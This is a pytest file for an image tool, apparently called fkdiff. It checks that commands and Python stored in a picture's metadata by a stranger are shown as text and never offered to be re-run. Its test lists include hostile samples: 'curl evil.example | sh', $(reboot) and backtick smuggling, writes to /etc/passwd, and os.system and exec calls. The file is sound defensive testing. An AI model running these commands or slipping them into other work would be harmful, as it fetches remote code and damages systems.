"""What a stranger's file says is shown as text; only fkdiff's own writing is offered to be run."""

import json
import shlex

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image

from fkdiff.commands.again import own_command, own_python
from fkdiff.commands.request import Request, command_of
from fkdiff.report.facts import about_image, about_run
from fkdiff.report.png import encode_png, parameters_text, read_png
from fkdiff.rgba import paste
from tests.report.clouds import invented

STRANGE = [
    "fkdiff generate 'a cat'; curl evil.example | sh",
    "fkdiff generate 'a cat' && reboot",
    "fkdiff generate `reboot`",
    "fkdiff generate $(reboot)",
    'fkdiff generate "$(reboot)"',
    "fkdiff generate 'a cat' > /etc/passwd",
    "fkdiff generate 'a cat'\nreboot",
    "fkdiff generate 'a cat' --resume /home/you/run",
    "fkdiff generate 'a cat' --prompts /etc/passwd",
    "fkdiff generate 'a cat' -k",
    "fkdiff generate 'a cat' --seed",
    "fkdiff app --share",
    "fkdiff bench fk --json /etc/passwd",
    "python -c 'import os'",
    "sudo fkdiff generate 'a cat'",
    "/bin/fkdiff generate 'a cat'",
    "fkdiff generate \x1b[2J",
    "fkdiff generate 'a cat",
    "fkdiff",
    "",
    7,
    ["fkdiff", "generate"],
]


def picture(path, **about):
    path.write_bytes(encode_png(Image.new("RGB", (2, 2)), {"prompt": "a cat", **about}))
    return path


@pytest.mark.parametrize("command", STRANGE, ids=str)
def test_a_stranger_s_command_is_not_offered(fkdiff, tmp_path, command):
    code, out, _ = fkdiff("show", picture(tmp_path / "p.png", command=command, python=None))
    assert code == 0 and "Make it again" not in out and own_command(command) is None
    assert not (isinstance(command, str) and " " in command) or command not in out


OWN = [
    Request(("a cat",), seed=3, particles=8),
    Request(("it's $5 & a `cat`; [/x] \\", "two"), model="~/models/mine", scale=0.1, plain=False),
    Request(("a",), correct=True, expert=("emoji-rl=1.6",), product=("a dog=-0.5",), height=32),
]


@pytest.mark.parametrize("request_", OWN, ids=str)
def test_a_command_of_ours_is_offered_quoted(fkdiff, tmp_path, request_):
    command = command_of(request_)
    own = own_command(command)
    assert own is not None and shlex.split(own[0]) == shlex.split(command) and not own[1]
    _, out, _ = fkdiff("show", picture(tmp_path / "p.png", command=command))
    assert "Make it again:" in out and own[0] in out


def test_code_of_a_command_is_named_and_its_folder_left_out(fkdiff, tmp_path):
    command = "fkdiff generate 'a cat' --reward evil.py:f --out /home/you/mine"
    _, out, _ = fkdiff("show", picture(tmp_path / "p.png", command=command))
    assert "Make it again (it runs code of this machine, evil.py:f: look at that first):" in out
    assert "/home/you" not in out.split("Make it again")[1]


PYTHON = [
    "import os\nos.system('reboot')",
    "from fkdiff.files import os\nos.system('reboot')",
    "from fkdiff import zoo\nzoo.__builtins__['exec']('1')",
    "__import__('os').system('reboot')",
    "exec('1')",
    "from torch import hub\nhub.load('evil', 'x')",
    "import torch\ntorch.hub.load('evil', 'x')",
    "from fkdiff import steer\n[steer(x) for x in ()]",
    "from diffusers import *",
    "(lambda: 1)()",
    "steer(1)",
    "pass\x07",
    "(" * 5000,
    "",
    7,
]


@pytest.mark.parametrize("python", PYTHON, ids=lambda python: str(python)[:30])
def test_a_stranger_s_python_is_not_offered(fkdiff, tmp_path, python):
    _, out, _ = fkdiff("show", picture(tmp_path / "p.png", command="", python=python))
    assert "The Python that makes it again" not in out and own_python(python) is None


def test_the_python_of_a_run_is_offered(fkdiff, tmp_path):
    page = invented(particles=1).save(tmp_path / "run")
    python = json.loads((page.parent / "result.json").read_text())["python"]
    assert own_python(python) == python
    _, out, _ = fkdiff("show", page.parent / "images" / "0000.png")
    assert "The Python that makes it again" in out and python.strip() in out


@settings(max_examples=100, deadline=None)
@given(st.recursive(st.none() | st.booleans() | st.floats() | st.text(), st.lists, max_leaves=5))
def test_anything_is_shown_without_steering_the_terminal(tmp_path_factory, value):
    from fkdiff.commands.show import _again, _shown

    for text in (_shown(value), _again(command=value, python=value)):
        assert all(c.isprintable() or c == "\n" for c in text)


@pytest.mark.parametrize("select", ["best", "sample", "all"])
def test_the_line_of_a_picture_names_its_seed(select):
    result = invented(particles=2)
    result.seed = 0
    result.settings["select"] = select
    run = about_run(result, "", "")
    assert "Seed: 0," in parameters_text(about_image(run, run["particles"][0]))


def test_each_prompt_and_each_particle_has_its_own_seed():
    run = about_run(invented(("a cat", "a dog"), particles=2), "", "")
    for seeds, expected in (([3, 7], {0: 3, 1: 7}), ([3, 5, 7, 9], None)):
        run["settings"]["seeds"] = seeds
        for row in run["particles"]:
            own = about_image(run, row)["seed"]
            assert own == (expected or {}).get(row["prompt"], own)
            assert expected or own == seeds[2 * row["prompt"] + row["slot"]]


def test_any_text_comes_back_from_a_picture(tmp_path):
    @settings(max_examples=60, deadline=None)
    @given(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0")))
    def check(text):
        assert read_png(picture(tmp_path / "p.png", command=text))["command"] == text

    check()


@pytest.mark.parametrize("mode", ["I;16", "I"])
def test_grey_of_16_bits_keeps_its_shades(mode):
    values = np.array([[0, 257 * 100], [257 * 200, 65535]], np.uint16)
    grey = Image.fromarray(values if mode == "I;16" else values.astype(np.int32))
    assert grey.mode == mode
    clear = Image.new("RGBA", (2, 2))
    assert np.asarray(paste(grey, clear))[..., 0].tolist() == [[0, 100], [200, 255]]
    grey.info["transparency"] = 0
    over = np.asarray(paste(Image.new("RGB", (2, 2), "red"), grey, scale=1.0))
    assert over.tolist() == [[[255, 0, 0], [100] * 3], [[200] * 3, [255] * 3]]


@pytest.mark.parametrize("values", [np.float32([[0.5]]), np.int32([[-1]]), np.int32([[70000]])])
def test_a_picture_without_a_known_white_is_refused(values):
    with pytest.raises(ValueError, match="must have 8 or 16 bits a channel"):
        paste(Image.fromarray(values), Image.new("RGBA", (1, 1)))
